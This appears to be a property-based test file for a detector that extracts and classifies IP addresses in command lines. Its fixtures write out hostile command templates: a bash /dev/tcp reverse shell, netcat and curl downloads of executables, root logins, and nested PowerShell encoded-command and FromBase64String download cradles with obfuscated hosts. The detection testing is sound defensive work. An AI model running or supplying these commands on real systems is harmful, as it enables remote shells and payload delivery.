import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formatIPv4, formatIPv6, parseIPv4, parseIPv6 } from '../../src/detect/addressText.js';
import { classifyAddress, classifyIPv4, classifyIPv6, isExternal } from '../../src/detect/classifyAddress.js';
import { extractAddresses } from '../../src/detect/extractAddresses.js';

// Any UTF-16 code unit, lone surrogates and NUL included, mixed with fragments that steer the scanner into its branches.
const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
const fragment = fc.constantFrom('://', '\\\\', '::', '.', ':', '0x', '1.2.3', '255.', '[', ']', '%', '@', ' -enc ', '=', '\u0000', '\ud800');
const hostile = fc.string({ unit: fc.oneof(codeUnit, fragment, fc.constantFrom('0', '1', '9', 'a', 'f')), maxLength: 300 });

function isNormalized(address: string): boolean {
  const v4 = parseIPv4(address);
  if (v4 !== undefined) return formatIPv4(v4) === address;
  const v6 = parseIPv6(address);
  return v6 !== undefined && formatIPv6(v6) === address;
}

const publicIPv4 = fc
  .tuple(fc.nat(255), fc.nat(255), fc.nat(255), fc.nat(255))
  .map(([a, b, c, d]) => ((a * 2 ** 24 + b * 2 ** 16 + c * 2 ** 8 + d) >>> 0))
  .filter((n) => classifyIPv4(n) === 'external');

const publicIPv6 = fc
  .array(fc.nat(0xffff), { minLength: 8, maxLength: 8 })
  .map((groups) => [0x2000 | (groups[0]! & 0x1fff), ...groups.slice(1)])
  .filter((groups) => classifyIPv6(groups) === 'external');

const word = fc.stringMatching(/^[a-z][a-z0-9]{0,8}$/);
const ipv4Context = fc.constantFrom(
  (ip: string) => `ping ${ip}`,
  (ip: string) => `ping -n 1 ${ip} -w 500`,
  (ip: string) => `curl http://${ip}/a.exe`,
  (ip: string) => `curl https://${ip}:8443/x?y=1`,
  (ip: string) => `copy \\\\${ip}\\share\\x.exe .`,
  (ip: string) => `nc ${ip}:4444`,
  (ip: string) => `ssh root@${ip}`,
  (ip: string) => `iwr '${ip}'`,
  (ip: string) => `tool "${ip}"`,
  (ip: string) => `x --server=${ip}`,
  (ip: string) => `list 9.x,${ip},host`,
  (ip: string) => `echo ${ip}>out.txt`,
  (ip: string) => `echo [${ip}]`,
  (ip: string) => `wmic /node:${ip} process list`,
  (ip: string) => `(${ip})`,
  (ip: string) => `bash -i >& /dev/tcp/${ip}/4444 0>&1`,
  (ip: string) => `copy \\\\?\\UNC\\${ip}\\share\\x.exe .`,
  (ip: string) => `mysql -h${ip} -uroot`,
  (ip: string) => `curl "https://x.example/r?u=http%3A%2F%2F${ip}%2Fa"`,
);

describe('extractAddresses (properties)', () => {
  it('never throws and returns addresses in offset order for arbitrary input (NUL, lone surrogates, unicode)', () => {
    fc.assert(
      fc.property(hostile, (line) => {
        const found = extractAddresses(line);
        for (let i = 1; i < found.length; i++) expect(found[i]!.offset).toBeGreaterThanOrEqual(found[i - 1]!.offset);
      }),
      { numRuns: 2000 },
    );
  });

  it('never throws on a 32 KB line of arbitrary code units', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.oneof(codeUnit, fragment), minLength: 32 * 1024, maxLength: 32 * 1024 }), (line) => {
        expect(Array.isArray(extractAddresses(line))).toBe(true);
      }),
      { numRuns: 5 },
    );
  });

  it('stays linear on adversarial 32 KB lines (digit, colon, dot and URL runs)', () => {
    const lines = ['1'.repeat(32768), ':'.repeat(32768), '1.'.repeat(16384), 'a:'.repeat(16384), '://'.repeat(10922), ` -e ${'A'.repeat(32760)}`];
    for (const line of lines) {
      const started = performance.now();
      extractAddresses(line);
      // Quadratic backtracking took ~900 ms on 32 KB of digits; linear scanning takes a few ms.
      expect(performance.now() - started, line.slice(0, 8)).toBeLessThan(400);
    }
  });

  it('reports every address normalized and classified as classifyAddress classifies it', () => {
    fc.assert(
      fc.property(hostile, (line) => {
        for (const a of extractAddresses(line)) {
          expect(isNormalized(a.address)).toBe(true);
          expect(classifyAddress(a.address)).toBe(a.kind);
          if (a.kind === 'external') expect(isExternal(a.address)).toBe(true);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('finds a public IPv4 address placed in a random command-line context', () => {
    fc.assert(
      fc.property(publicIPv4, ipv4Context, word, word, (n, context, before, after) => {
        const ip = formatIPv4(n);
        const line = `${before}.exe ${context(ip)} ${after}`;
        const externals = extractAddresses(line).filter((a) => a.kind === 'external').map((a) => a.address);
        expect(externals).toContain(ip);
      }),
      { numRuns: 3000 },
    );
  });

  it('finds a public IPv4 address written as hex, decimal or octal in URL host position', () => {
    fc.assert(
      fc.property(publicIPv4, fc.constantFrom('hex', 'decimal', 'octal'), (n, form) => {
        const host =
          form === 'hex' ? `0x${n.toString(16)}` : form === 'decimal' ? String(n) : formatIPv4(n).split('.').map((o) => `0${Number(o).toString(8)}`).join('.');
        const found = extractAddresses(`curl http://${host}/p -o p`);
        expect(found.map((a) => a.address)).toEqual([formatIPv4(n)]);
        expect(found[0]!.kind).toBe('external');
      }),
      { numRuns: 1000 },
    );
  });

  it('reads a URL host with any of its characters percent-encoded as that host, and reports no other address', () => {
    fc.assert(
      fc.property(publicIPv4, fc.array(fc.boolean(), { minLength: 15, maxLength: 15 }), fc.boolean(), (n, escaped, upper) => {
        const ip = formatIPv4(n);
        const hex = (c: string): string => c.charCodeAt(0).toString(16);
        const host = [...ip].map((c, i) => (escaped[i] ? `%${upper ? hex(c).toUpperCase() : hex(c)}` : c)).join('');
        expect(extractAddresses(`curl http://${host}/a -o a`).map((a) => a.address)).toEqual([ip]);
      }),
      { numRuns: 2000 },
    );
  });

  it('reads a zero-padded quad as its octal value, and a URL host with any number of leading zeros', () => {
    fc.assert(
      fc.property(publicIPv4, fc.array(fc.nat(40), { minLength: 4, maxLength: 4 }), (n, zeros) => {
        const octets = formatIPv4(n).split('.').map(Number);
        const host = octets.map((o, i) => `${'0'.repeat(zeros[i]! + 1)}${o.toString(8)}`).join('.');
        expect(extractAddresses(`curl http://${host}/p -o p`).map((a) => a.address)).toEqual([formatIPv4(n)]);
        // As an argument, padding that only versions have (`00`) is not read; obfuscation writes `0` for a zero octet.
        const argument = octets.map((o) => (o === 0 ? '0' : `0${o.toString(8)}`)).join('.');
        expect(extractAddresses(`ping -n 1 ${argument}`)).toEqual([expect.objectContaining({ address: formatIPv4(n), encoding: 'octal' })]);
      }),
      { numRuns: 1000 },
    );
  });

  it('finds a public IPv6 address, plain or bracketed in a URL', () => {
    fc.assert(
      fc.property(publicIPv6, fc.boolean(), word, (groups, bracketed, before) => {
        const ip = formatIPv6(groups);
        const line = bracketed ? `${before} http://[${ip}]:8080/x` : `${before} ping -6 ${ip}`;
        expect(extractAddresses(line).map((a) => a.address)).toContain(ip);
      }),
      { numRuns: 1000 },
    );
  });

  it('finds an address hidden in a PowerShell encoded command', () => {
    fc.assert(
      fc.property(publicIPv4, fc.constantFrom('-e', '-enc', '-EncodedCommand', '-ec', '/enc'), (n, flag) => {
        const ip = formatIPv4(n);
        const payload = Buffer.from(`iwr http://${ip}/a -OutFile a`, 'utf16le').toString('base64');
        const found = extractAddresses(`powershell -nop ${flag} ${payload}`);
        expect(found).toContainEqual(expect.objectContaining({ address: ip, encoding: 'encoded-command' }));
      }),
      { numRuns: 500 },
    );
  });

  it('finds an address in encoded commands nested at any depth', () => {
    const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
    fc.assert(
      fc.property(publicIPv4, fc.integer({ min: 1, max: 7 }), fc.boolean(), (n, depth, literal) => {
        const ip = formatIPv4(n);
        let line = `iwr http://${ip}/a`;
        for (let i = 0; i < depth; i++) {
          line = literal && i % 2 === 1 ? `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${encode(line)}')))` : `powershell -enc ${encode(line)}`;
        }
        expect(extractAddresses(line)).toContainEqual(expect.objectContaining({ address: ip, encoding: 'encoded-command' }));
      }),
      { numRuns: 200 },
    );
  });
});
